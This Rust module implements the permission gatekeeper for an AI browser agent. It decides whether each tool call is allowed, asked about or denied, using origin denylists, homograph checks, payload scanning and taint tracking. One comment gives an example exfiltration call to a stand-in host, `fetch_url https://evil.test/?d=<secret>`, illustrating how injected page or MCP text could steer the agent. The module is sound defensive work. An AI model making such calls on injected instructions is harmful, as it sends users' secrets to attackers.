//! The gatekeeper's pure decision (reference §6, issue 7 §1): given a tool call and the
//! permission state, allow it, ask the user, or deny it. No IO, no approvals flow.
//!
//! * [`decide`] runs the one order over a [`GateInput`] and returns a [`Verdict`].
//! * [`Origin`] / [`OriginPattern`]: a small origin parser and the patterns rules use.
//! * [`Rule`] with [`winning_rule`] precedence; [`SensitiveOrigins`], the denylist;
//!   [`classify`], the tool table; [`scan`], the sensitive-payload detector.
//! * Hosts: fullwidth forms are folded to ASCII when parsed; a homograph of a sensitive
//!   origin ([`Origin::look_alike`]) is denied like it, and any other internationalized host
//!   ([`Origin::is_idn`]) asks, whatever grants and allow rules say.
//! * Taint comes in through [`GateInput::taint`], computed by
//!   [`crate::taint::TaintLedger::taint_of`]; it forces a question for destinations (reads
//!   included) and for text typed into another origin.

mod idn;
mod origin;
mod payload;
mod rules;
mod sensitive;
mod tools;

use std::collections::BTreeSet;

use panelot_protocol::engine::ApprovalFlag;
use panelot_protocol::engine::PermissionPolicy;
use panelot_protocol::engine::Provenance;
use panelot_protocol::engine::TaintSource;
use serde_json::Value;

pub use origin::Origin;
pub use origin::OriginError;
pub use origin::OriginPattern;
pub use origin::Scheme;
pub use payload::CREDENTIAL_KEYS;
pub use payload::PayloadFindings;
pub use payload::contains_card;
pub use payload::contains_email;
pub use payload::is_credential_key;
pub use payload::is_luhn_valid;
pub use payload::scan;
pub use rules::Rule;
pub use rules::RuleError;
pub use rules::RuleSource;
pub use rules::RuleVerdict;
pub use rules::ToolPattern;
pub use rules::ToolPatternError;
pub use rules::winning_rule;
pub use sensitive::BUILTIN_SENSITIVE_ORIGINS;
pub use sensitive::SensitiveOrigins;
pub use tools::CATEGORY_NAMES;
pub use tools::Effect;
pub use tools::MCP_PREFIX;
pub use tools::TargetKind;
pub use tools::ToolCategory;
pub use tools::ToolInfo;
pub use tools::classify;
pub use tools::is_known;

/// Everything one decision reads. Borrowed, so the caller keeps ownership of its state.
#[derive(Debug, Clone, Copy)]
pub struct GateInput<'a> {
    /// The tool name.
    pub tool: &'a str,
    /// The complete call parameters.
    pub params: &'a Value,
    /// URL of the page the tool acts on; ignored for destination and originless tools.
    pub page_url: Option<&'a str>,
    /// The frozen policy of the run.
    pub policy: PermissionPolicy,
    /// Every rule in force.
    pub rules: &'a [Rule],
    /// The sensitive-origin denylist.
    pub sensitive: &'a SensitiveOrigins,
    /// This thread's session grants, keyed by [`grant_key`].
    pub session_grants: &'a BTreeSet<String>,
    /// Origins the thread has accepted; emails may go there without asking.
    pub scope_origins: &'a [Origin],
    /// Parameters whose values came from elsewhere; page and MCP content counts as taint.
    /// Normally [`crate::taint::TaintLedger::taint_of`] over `params`.
    pub taint: &'a [TaintSource],
}

/// The gatekeeper's answer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// Run the call.
    Allow,
    /// Ask the user first.
    Ask {
        /// Reasons shown on the approval card.
        flags: Vec<ApprovalFlag>,
        /// What forced the question, for the card and the audit trail.
        reason: String,
    },
    /// Refuse without asking; the reason goes back to the model.
    Deny {
        /// What denied it.
        reason: String,
        /// The rule that denied it, when a rule did.
        rule_id: Option<String>,
    },
}

/// The session-grant key for a tool at an origin: `"{tool} {origin}"`, `"{tool} *"` when the
/// call has no origin.
pub fn grant_key(tool: &str, origin: Option<&Origin>) -> String {
    match origin {
        Some(origin) => format!("{tool} {origin}"),
        None => format!("{tool} *"),
    }
}

/// Parameters whose taint matters for tools judged by their destination.
const DESTINATION_PARAMS: &[&str] = &["url"];

/// Parameters that carry typed text for fill tools; a path ending in one of these counts, so
/// `actions/0/params/text` inside `batch_actions` is covered.
const TYPED_TEXT_PARAMS: &[&str] = &["text", "values", "key"];

/// Tools that drive the page through the debugger (CDP, level L2). An asked call of one carries
/// [`ApprovalFlag::EscalationL2`], which only changes how its card looks (reference §5.3).
pub const DEBUGGER_TOOLS: &[&str] = &[
    "click_trusted",
    "type_trusted",
    "screenshot",
    "run_javascript",
    "click_xy",
    "drag",
    "read_page_deep",
];

/// The flags every question about `tool` carries, whatever forced it.
fn tool_flags(tool: &str) -> Vec<ApprovalFlag> {
    if DEBUGGER_TOOLS.contains(&tool) { vec![ApprovalFlag::EscalationL2] } else { Vec::new() }
}

/// Decides one tool call. The order is fixed; the first step that decides wins.
pub fn decide(input: &GateInput<'_>) -> Verdict {
    let info = classify(input.tool);
    let target = resolve_target(input, info.target);
    let origin = target.as_ref().ok().and_then(Option::as_ref);
    let grant = grant_key(input.tool, origin);

    // Step 0: reads never reach the write order and are never denied.
    match info.effect {
        Effect::AlwaysAllowed => return Verdict::Allow,
        Effect::Read => {
            // A read that fetches a destination the page or an MCP server chose is how
            // injected text exfiltrates (`fetch_url https://evil.test/?d=<secret>`), so a tainted
            // destination asks under every policy and through grants.
            if info.target == TargetKind::Destination
                && let Some(reason) = taint_reason(input, info, origin)
            {
                let mut flags = tool_flags(input.tool);
                flags.push(ApprovalFlag::TaintedInput);
                return ask(flags, reason);
            }
            return match input.policy {
                PermissionPolicy::Always if !input.session_grants.contains(&grant) => ask(
                    tool_flags(input.tool),
                    format!("policy \"always\" asks before every call, including {}", input.tool),
                ),
                PermissionPolicy::Always | PermissionPolicy::Untrusted | PermissionPolicy::Auto => {
                    Verdict::Allow
                }
            };
        }
        Effect::Write => {}
    }

    // Step 1: dangerous schemes.
    if let Some(origin) = origin
        && origin.scheme.is_dangerous()
    {
        return deny(format!("{}: destinations are never allowed", origin.scheme.name()), None);
    }
    // Step 2: the sensitive-origin denylist; no rule overrides it.
    if let Some(origin) = origin
        && let Some(pattern) = input.sensitive.find(origin)
    {
        return deny(format!("{origin} is a sensitive origin ({})", describe(pattern)), None);
    }
    // A look-alike of a sensitive origin is treated as that origin: whoever registered
    // `pаypal.com` wants it mistaken for PayPal.
    if let Some(origin) = origin
        && let Some(imitated) = origin.look_alike()
        && let Some(pattern) = input.sensitive.find(&imitated)
    {
        return deny(
            format!("{origin} imitates {imitated}, a sensitive origin ({})", describe(pattern)),
            None,
        );
    }

    let findings = scan(input.params);
    let payload = payload_reason(&findings, origin, input.scope_origins);
    let taint = taint_reason(input, info, origin);
    let mut flags = tool_flags(input.tool);
    if payload.is_some() {
        flags.push(ApprovalFlag::SensitivePayload);
    }
    if taint.is_some() {
        flags.push(ApprovalFlag::TaintedInput);
    }
    let idn = origin.is_some_and(|origin| origin.is_idn());
    if idn {
        flags.push(ApprovalFlag::InternationalizedHost);
    }

    // Step 3: rules. An ask rule cannot be silenced by a session grant.
    let rule = winning_rule(input.rules, input.tool, origin);
    if let Some(rule) = rule {
        match rule.verdict {
            RuleVerdict::Deny => {
                return deny(format!("denied by rule {}", rule.id), Some(rule.id.clone()));
            }
            RuleVerdict::Ask => return ask(flags, format!("rule {} asks", rule.id)),
            RuleVerdict::Allow => {}
        }
    }
    // An unreadable target cannot be matched against anything that allows, so it asks.
    if let Err(err) = &target {
        return ask(flags, format!("could not read the target of {}: {err}", input.tool));
    }
    // Step 4: sensitive payload, even if a grant or an allow rule would cover the call.
    if let Some(reason) = payload {
        return ask(flags, reason);
    }
    // Step 5: taint, even under `auto`.
    if let Some(reason) = taint {
        return ask(flags, reason);
    }
    // Step 5b: an internationalized host may be a look-alike of a site the user trusts or a
    // sensitive one, so no grant or allow rule speaks for it and even `auto` asks.
    if let Some(origin) = origin
        && idn
    {
        return ask(
            flags,
            format!(
                "{origin} has an internationalized host name that can imitate another site; \
                 check the address"
            ),
        );
    }
    // Step 6: a session grant, then an allow rule.
    if input.session_grants.contains(&grant) {
        return Verdict::Allow;
    }
    if rule.is_some_and(|rule| rule.verdict == RuleVerdict::Allow) {
        return Verdict::Allow;
    }
    // Step 7: the policy.
    match input.policy {
        PermissionPolicy::Always => {
            ask(flags, format!("policy \"always\" asks before {}", input.tool))
        }
        PermissionPolicy::Untrusted => {
            ask(flags, format!("policy \"untrusted\" asks before {}", input.tool))
        }
        PermissionPolicy::Auto => Verdict::Allow,
    }
}

/// The call's origin: `Ok(None)` for originless tools, `Err` when it cannot be read.
fn resolve_target(input: &GateInput<'_>, kind: TargetKind) -> Result<Option<Origin>, OriginError> {
    match kind {
        TargetKind::Originless => Ok(None),
        TargetKind::Page => match input.page_url {
            Some(url) => Origin::parse(url).map(Some),
            None => Err(OriginError::Empty),
        },
        TargetKind::Destination => {
            let url = input.params.get("url").and_then(Value::as_str).unwrap_or_default();
            Origin::parse(url).map(Some)
        }
    }
}

fn payload_reason(
    findings: &PayloadFindings,
    origin: Option<&Origin>,
    scope_origins: &[Origin],
) -> Option<String> {
    if let Some(path) = findings.cards.first() {
        return Some(format!("card number in {path}"));
    }
    if let Some(path) = findings.credentials.first() {
        return Some(format!("credential in {path}"));
    }
    // Emails only matter when they leave the thread's scope; an originless call has no
    // scope to stay in (an MCP server is as far outside as it gets).
    let in_scope = origin.is_some_and(|origin| scope_origins.contains(origin));
    match findings.emails.first() {
        Some(path) if !in_scope => {
            Some(format!("email address in {path} sent outside the thread's scope"))
        }
        Some(_) | None => None,
    }
}

fn taint_reason(input: &GateInput<'_>, info: ToolInfo, origin: Option<&Origin>) -> Option<String> {
    input.taint.iter().filter(|it| is_untrusted(it.provenance)).find_map(|taint| {
        // Array indices are not names: `values/0` is judged as `values`.
        let leaf = taint
            .param
            .rsplit('/')
            .find(|segment| !segment.bytes().all(|b| b.is_ascii_digit()))
            .unwrap_or_default();
        match info.target {
            TargetKind::Destination if DESTINATION_PARAMS.contains(&leaf) => {
                Some(format!("destination {} came from {}", taint.param, taint.source))
            }
            TargetKind::Page
                if info.category == Some(ToolCategory::Fill)
                    && TYPED_TEXT_PARAMS.contains(&leaf)
                    && Origin::parse(&taint.source).ok().as_ref() != origin =>
            {
                Some(format!("{} typed here came from {}", taint.param, taint.source))
            }
            TargetKind::Destination | TargetKind::Page | TargetKind::Originless => None,
        }
    })
}

fn is_untrusted(provenance: Provenance) -> bool {
    match provenance {
        Provenance::Page | Provenance::Mcp => true,
        Provenance::User | Provenance::Tool | Provenance::Import | Provenance::Plugin => false,
    }
}

fn describe(pattern: &OriginPattern) -> String {
    match pattern {
        OriginPattern::Any => "*".to_owned(),
        OriginPattern::Exact(origin) => origin.to_string(),
        OriginPattern::Domain(domain) => format!("*.{domain}"),
        OriginPattern::Scheme(scheme) => format!("{}:*", scheme.name()),
    }
}

fn ask(flags: Vec<ApprovalFlag>, reason: String) -> Verdict {
    Verdict::Ask { flags, reason }
}

fn deny(reason: String, rule_id: Option<String>) -> Verdict {
    Verdict::Deny { reason, rule_id }
}

#[cfg(test)]
#[path = "gatekeeper/decide_tests.rs"]
mod tests;
